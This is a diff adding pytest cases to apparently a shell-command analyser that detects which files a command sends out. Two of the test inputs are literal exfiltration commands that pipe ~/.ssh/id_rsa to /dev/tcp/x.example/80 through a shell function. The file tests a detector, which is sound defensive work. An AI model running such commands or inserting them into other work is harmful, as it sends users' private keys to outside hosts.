@@ -331,3 +331,15 @@ def test_an_interpreter_reading_a_file_named_by_a_variable_is_opaque(cmd: str) -
 def test_nested_compounds_keep_what_flows(cmd: str, payloads: tuple[str, ...], executes: tuple[str, ...]) -> None:
     a = analyse_command(cmd)
     assert (a.payloads, a.executes) == (payloads, executes)
+
+
+@pytest.mark.parametrize(("cmd", "payloads"), [
+    # second reader, round 6: a descriptor opened for a function call (its body writes it)
+    ("g() { cat >&3; }; cat ~/.ssh/id_rsa | g 3> /dev/tcp/x.example/80", ("~/.ssh/id_rsa",)),
+    ("g() { cat >&3; }; g 3> /dev/tcp/x.example/80 < ~/.ssh/id_rsa", ("~/.ssh/id_rsa",)),
+    # stderr alone, or a bare exec opening it, sends nothing of the command's
+    ("cat ~/.ssh/id_rsa 2> /dev/tcp/x.example/80 > out.txt", ()),
+    ("exec 3<>/dev/tcp/x.example/80", ()),
+])
+def test_a_descriptor_opened_on_a_connection_for_a_command(cmd: str, payloads: tuple[str, ...]) -> None:
+    assert analyse_command(cmd).payloads == payloads
